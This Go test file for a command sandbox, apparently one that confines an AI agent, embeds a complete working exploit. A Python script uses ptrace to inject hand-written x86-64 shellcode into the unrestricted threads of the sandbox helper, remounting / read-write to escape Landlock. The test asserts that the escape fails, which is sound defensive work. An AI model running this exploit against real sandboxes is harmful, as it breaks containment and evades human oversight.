package sandbox

import (
	"fmt"
	"path/filepath"
	"runtime"
	"testing"
)

// CRITICAL. The helper applies Landlock with landlock_restrict_self on its
// locked main thread only: the Go runtime's other threads (sysmon, the
// template thread, every M) were created before and stay unrestricted, and
// the helper, bash's parent, is in bash's own Landlock domain, so bash may
// ptrace it (Landlock allows ptrace within a domain; the user namespace
// gives CAP_SYS_PTRACE over it, which Yama's ptrace_scope=1 accepts:
// untested here, this kernel has no Yama).
// The command attaches to the helper's main thread with PTRACE_ATTACH,
// patches runtime.usleep (shared text, written with PTRACE_POKETEXT) to jump
// to a payload, and lets sysmon, an unrestricted thread that is root in the
// user namespace owning the mount namespace, run it: it remounts /
// read-write (mounts copied from the agent's namespace were read-write, so
// they are not locked read-only) and creates a file outside every writable
// root. This works in read-only mode too. /proc/PID/mem is refused by
// Landlock (a file write), but ptrace is not.
func TestHelperThreadsEscapeLandlock(t *testing.T) {
	if runtime.GOARCH != "amd64" {
		t.Skip("the payload is x86-64 code")
	}
	needTool(t, "python3")
	for _, mode := range []Mode{WorkspaceWrite, ReadOnly} {
		t.Run(string(mode), func(t *testing.T) {
			b := newBox(t, func(p *Policy) { p.Mode = mode })
			script := filepath.Join(b.work, "inject.py")
			write(t, script, injectPy)
			out := filepath.Join(b.outside, "escaped")
			// $PPID is the helper. Orphans reparented to the helper (a
			// subreaper) wake its Wait4 and so sysmon; the loop is bounded.
			cmd := fmt.Sprintf(`python3 %s $PPID %s || exit 1; for i in $(seq 2000); do [ -e %s ] && break; ( sleep 0 & ); done; cat %s`,
				sq(script), sq(out), sq(out), sq(out))
			res := b.run(cmd)
			t.Logf("command output:\n%s", res.Content)
			absent(t, out)
		})
	}
}

const injectPy = `# Usage: inject.py HELPER_PID OUT_PATH
# Attaches (ptrace) to the helper's main thread, which is in the command's own
# Landlock domain, and patches the helper's code, shared by all its threads.
# The helper's other threads were never restricted: the first of them to
# call runtime.usleep runs the payload, which remounts / read-write (the
# thread is root in the sandbox's user namespace) and writes OUT_PATH.
import ctypes, os, struct, sys

pid, out = int(sys.argv[1]), sys.argv[2].encode()
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]

def gofuncs(pid, want):
    """Entry address and size of the Go functions named in want, in process
    pid: from the executable's .gopclntab (kept even when stripped) and the
    live moduledata's text address."""
    path = '/proc/%d/exe' % pid
    b = open(path, 'rb').read()
    etype = struct.unpack_from('<H', b, 16)[0]
    shoff, = struct.unpack_from('<Q', b, 0x28)
    shentsize, shnum, shstrndx = struct.unpack_from('<HHH', b, 0x3A)
    secs = [struct.unpack_from('<IIQQQQIIQQ', b, shoff + i * shentsize) for i in range(shnum)]
    names = secs[shstrndx][4]
    sec = {b[names + s[0]:b.index(b'\0', names + s[0])].decode(): s for s in secs}
    base = 0
    if etype == 3:  # PIE: the load address of the executable
        for line in open('/proc/%d/maps' % pid):
            f = line.split()
            if len(f) >= 6 and int(f[2], 16) == 0 and f[5] == os.readlink(path):
                base = int(f[0].split('-')[0], 16)
                break
    pcaddr = base + sec['.gopclntab'][3]
    nd = sec.get('.go.module') or sec['.noptrdata']
    with open('/proc/%d/mem' % pid, 'rb') as m:
        m.seek(base + nd[3])
        data = m.read(nd[5])
    md = next(i for i in range(0, len(data) - 8, 8) if struct.unpack_from('<Q', data, i)[0] == pcaddr)
    text, = struct.unpack_from('<Q', data, md + 176)
    p = sec['.gopclntab'][4]
    assert struct.unpack_from('<I', b, p)[0] == 0xfffffff1
    nfunc, = struct.unpack_from('<Q', b, p + 8)
    nameoff, = struct.unpack_from('<Q', b, p + 32)
    ftab = p + struct.unpack_from('<Q', b, p + 64)[0]
    out = {}
    for i in range(nfunc):
        entry, funcoff, nextentry = struct.unpack_from('<III', b, ftab + 8 * i)
        s = p + nameoff + struct.unpack_from('<i', b, ftab + funcoff + 4)[0]
        n = b[s:b.index(b'\0', s)].decode(errors='replace')
        if n in want:
            out[n] = (text + entry, nextentry - entry)
    return out

f = gofuncs(pid, {'runtime.usleep', 'runtime.schedtrace'})
usleep = f['runtime.usleep'][0]
# runtime.schedtrace runs only under GODEBUG=schedtrace: room for the payload.
payload_at, payload_max = f['runtime.schedtrace']

# The payload, hand-assembled (x86-64).
msg = b'escaped\n'
def payload():
    code = bytearray()
    fix = []  # (offset of disp32, label)
    def lea(reg, label):  # lea reg,[rip+label]; reg: 0x3d rdi, 0x35 rsi
        code.extend(b'\x48\x8d' + bytes([reg])); fix.append((len(code), label)); code.extend(b'\0\0\0\0')
    lea(0x3d, 'none'); lea(0x35, 'root')
    code.extend(b'\x31\xd2')                          # xor edx,edx
    code.extend(b'\x41\xba' + struct.pack('<I', 0x1020))  # mov r10d, MS_REMOUNT|MS_BIND
    code.extend(b'\x45\x31\xc0')                      # xor r8d,r8d
    code.extend(b'\xb8' + struct.pack('<I', 165))     # mov eax, SYS_mount
    code.extend(b'\x0f\x05')
    lea(0x3d, 'path')
    code.extend(b'\xbe' + struct.pack('<I', 0x241))   # mov esi, O_WRONLY|O_CREAT|O_TRUNC
    code.extend(b'\xba' + struct.pack('<I', 0o644))   # mov edx, 0644
    code.extend(b'\xb8' + struct.pack('<I', 2))       # mov eax, SYS_open
    code.extend(b'\x0f\x05')
    code.extend(b'\x48\x85\xc0')                      # test rax,rax
    js = len(code); code.extend(b'\x78\x00')          # js done
    code.extend(b'\x48\x89\xc7')                      # mov rdi,rax
    lea(0x35, 'msg')
    code.extend(b'\xba' + struct.pack('<I', len(msg)))  # mov edx, len
    code.extend(b'\xb8' + struct.pack('<I', 1))       # mov eax, SYS_write
    code.extend(b'\x0f\x05')
    code.extend(b'\xb8' + struct.pack('<I', 3))       # mov eax, SYS_close
    code.extend(b'\x0f\x05')
    code[js + 1] = len(code) - (js + 2)
    code.extend(b'\xc3')                              # done: ret
    labels = {}
    for name, data in (('none', b'none\0'), ('root', b'/\0'), ('path', out + b'\0'), ('msg', msg)):
        labels[name] = len(code); code.extend(data)
    for off, label in fix:
        struct.pack_into('<i', code, off, labels[label] - (off + 4))
    return bytes(code)

code = payload()
assert len(code) <= payload_max, 'payload too large'
hook = b'\xe9' + struct.pack('<i', payload_at - (usleep + 5))  # jmp payload: one aligned word, written at once

def poke(addr, data):
    data = bytes(data)
    rem = len(data) % 8
    if rem:  # complete the last word with the bytes already there
        ctypes.set_errno(0)
        word = libc.ptrace(2, pid, addr + len(data) - rem, None)  # PTRACE_PEEKTEXT
        data += struct.pack('<q', word)[rem:]
    for i in range(0, len(data), 8):
        if libc.ptrace(4, pid, addr + i, struct.unpack('<q', data[i:i + 8])[0]) != 0:  # PTRACE_POKETEXT
            raise OSError(ctypes.get_errno(), 'poke')

if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
    e = ctypes.get_errno(); print('attach:', os.strerror(e)); sys.exit(1)
os.waitpid(pid, 0x40000000)  # __WALL
poke(payload_at, code)
poke(usleep, hook)
libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
print('patched helper', pid)
`
